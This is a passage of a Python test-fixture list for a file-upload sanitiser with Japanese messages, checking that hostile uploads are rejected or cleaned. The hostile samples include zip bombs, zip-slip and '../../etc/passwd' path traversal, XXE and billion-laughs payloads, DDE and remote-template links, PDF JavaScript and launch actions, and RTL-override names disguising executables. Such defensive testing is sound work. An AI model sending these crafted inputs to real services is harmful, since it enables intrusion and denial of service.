        lambda: b"\xff\xd8\xff\xe0" + random.Random(1).randbytes(10 * MB),
        REJECTED,
        "画像は 10.0 MB まで",
    ),
    Sample(
        "image-over-10mb-lying-size",
        "huge.jpg",
        lambda: b"\xff\xd8\xff\xe0" + bytes(10 * MB),
        REJECTED,
        "画像は 10.0 MB まで",
        lie_about_size=True,
    ),
    Sample(
        "doc-over-20mb",
        "大容量.pdf",
        lambda: b"%PDF-",
        REJECTED,
        "文書は 20.0 MB まで",
        declared_size=20 * MB + 1,
    ),
    # Office archives.
    Sample(
        "zip-bomb-xlsx",
        "bomb.xlsx",
        lambda: zip_bomb_xlsx(60 * MB),
        REJECTED,
        "圧縮率が異常に高い",
        archive=True,
    ),
    Sample(
        "xlsx-150mb-expanded",
        "bomb2.xlsx",
        lambda: zip_bomb_xlsx(150 * MB),
        REJECTED,
        "展開後のサイズ",
        archive=True,
    ),
    Sample(
        "xlsx-10000-entries",
        "many.xlsx",
        lambda: many_entries_xlsx(10_000),
        REJECTED,
        "1,000 個",
        archive=True,
    ),
    Sample(
        "xlsx-dotdot-member",
        "slip.xlsx",
        lambda: rezip(xlsx_bytes(), add={"../../x": b"x"}),
        REJECTED,
        "不正なパス名",
        archive=True,
    ),
    Sample(
        "xlsx-absolute-member",
        "slip2.xlsx",
        lambda: rezip(xlsx_bytes(), add={"/etc/cron.d/x": b"x"}),
        REJECTED,
        "不正なパス名",
        archive=True,
    ),
    Sample(
        "xlsx-duplicate-member",
        "dup.xlsx",
        lambda: rezip(xlsx_bytes(), add={"XL/workbook.xml": b"<x/>"}),
        REJECTED,
        "重複",
        archive=True,
    ),
    Sample(
        "xlsm-renamed-xlsx",
        "集計.xlsx",
        xlsm_renamed,
        REJECTED,
        "マクロ（VBA）を含むファイル",
        archive=True,
    ),
    Sample(
        "xlsx-macro-content-type",
        "集計.xlsx",
        macro_content_type_only,
        REJECTED,
        "マクロ（VBA）",
        archive=True,
    ),
    Sample(
        "xlsx-activex",
        "form.xlsx",
        lambda: rezip(xlsx_bytes(), add={"xl/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='x'/>"}),
        REJECTED,
        "埋め込みオブジェクト",
        archive=True,
    ),
    Sample(
        "xlsx-ole-embedding",
        "ole.xlsx",
        lambda: rezip(xlsx_bytes(), add={"xl/embeddings/oleObject1.bin": OLE}),
        REJECTED,
        "埋め込みオブジェクト",
        archive=True,
    ),
    Sample(
        "xlsx-xxe-shared-strings",
        "xxe.xlsx",
        lambda: with_shared_strings(XXE_SHARED_STRINGS),
        REJECTED,
        "DTD",
        archive=True,
    ),
    Sample(
        "xlsx-billion-laughs",
        "lol.xlsx",
        lambda: with_shared_strings(BILLION_LAUGHS),
        REJECTED,
        "DTD",
        archive=True,
    ),
    Sample(
        "xlsx-dtd-in-renamed-part",
        "lol2.xlsx",
        lambda: rezip(xlsx_bytes(), add={"xl/strings.dat": BILLION_LAUGHS}),
        REJECTED,
        "DTD",
        archive=True,
    ),
    Sample(
        "xlsx-200k-shared-strings",
        "strings.xlsx",
        lambda: many_shared_strings(200_000),
        REJECTED,
        "共有文字列が 10 万件",
        archive=True,
    ),
    Sample(
        "xlsx-sheet-without-dimension",
        "export.xlsx",
        lambda: undimensioned_sheet(300_000),
        REJECTED,
        "範囲情報「dimension」がありません",
        archive=True,
    ),
    Sample(
        "xlsx-dde-link",
        "dde.xlsx",
        lambda: rezip(xlsx_bytes(), add={"xl/externalLinks/externalLink1.xml": DDE_LINK}),
        REJECTED,
        "DDE/OLE リンク",
        archive=True,
    ),
    Sample(
        "docx-remote-template",
        "招待状.docx",
        lambda: rezip(docx_bytes(), add={"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
        REJECTED,
        "外部のファイルやサーバーを自動で読み込む",
        archive=True,
    ),
    Sample(
        "docx-creator",
        "議事録.docx",
        docx_bytes,
        NEUTRALISED,
        check=_office_properties_emptied,
        archive=True,
    ),
    Sample(
        "docx-review-authors",
        "議事録（コメント付き）.docx",
        docx_with_review,
        NEUTRALISED,
        check=_reviewers_removed,
        archive=True,
    ),
    Sample(
        "xlsx-comment-author",
        "訪問記録（コメント付き）.xlsx",
        xlsx_with_comment,
        NEUTRALISED,
        check=_reviewers_removed,
        archive=True,
    ),
    Sample(
        "pptx-comment-authors",
        "説明資料（コメント付き）.pptx",
        pptx_with_comment_authors,
        NEUTRALISED,
        check=_reviewers_removed,
        archive=True,
    ),
    # PDF.
    Sample(
        "pdf-javascript-open-action",
        "js.pdf",
        lambda: pdf_with_open_action({"/S": "/JavaScript", "/JS": "app.alert(1)"}),
        REJECTED,
        "JavaScript",
    ),
    Sample(
        "pdf-javascript-hex-escaped", "js2.pdf", pdf_obfuscated_javascript, REJECTED, "JavaScript"
    ),
    Sample("pdf-launch", "launch.pdf", pdf_launch, REJECTED, "外部プログラムの起動"),
    Sample("pdf-embedded-file", "attach.pdf", pdf_with_attachment, REJECTED, "添付ファイル"),
    Sample("pdf-encrypted", "locked.pdf", pdf_encrypted, REJECTED, "パスワードで保護された PDF"),
    Sample("pdf-truncated", "cut.pdf", lambda: pdf_bytes()[:40], REJECTED, "壊れているため"),
    Sample(
        "pdf-garbage",
        "noise.pdf",
        lambda: b"%PDF-1.7\n" + random.Random(3).randbytes(50_000),
        REJECTED,
        "壊れているため",
    ),
    Sample(
        "pdf-author-xmp",
        "報告.pdf",
        lambda: pdf_bytes(author="Yamada Taro", xmp=XMP_WITH_AUTHOR),
        NEUTRALISED,
        check=_pdf_metadata_removed,
    ),
    # File names.
    Sample(
        "name-traversal", "../../etc/passwd.pdf", pdf_bytes, NEUTRALISED, check=_named("passwd.pdf")
    ),
    Sample(
        "name-windows-path",
        "C:\\Users\\yamada\\議事録.pdf",
        pdf_bytes,
        NEUTRALISED,
        check=_named("議事録.pdf"),
    ),
    Sample("name-crlf", "a\r\nb.pdf", pdf_bytes, NEUTRALISED, check=_named("a b.pdf")),
    Sample(
        "name-rtl-override",
        "報告書\u202excl.exe",
        lambda: EXE,
        REJECTED,
        "（.exe）は登録できません",
    ),
    Sample(
        "name-rtl-disguised-pdf",
        "請求書\u202efdp.exe",
        lambda: EXE,
        REJECTED,
        "（.exe）は登録できません",
    ),
    Sample("name-300-chars", "議事録" * 100 + ".pdf", pdf_bytes, NEUTRALISED, check=_short_name),
    Sample(
        "name-full-width-space",
        "会議　メモ.pdf",
        pdf_bytes,
        NEUTRALISED,
        check=_named("会議　メモ.pdf"),
    ),
    Sample(
        "name-bidi-isolates",
        "\u2066見積\u2069\u200e書.pdf",
        pdf_bytes,
        NEUTRALISED,
        check=_named("見積書.pdf"),
    ),
]

BY_ID = {sample.id: sample for sample in SAMPLES}
assert len(BY_ID) == len(SAMPLES), "sample ids must be unique"
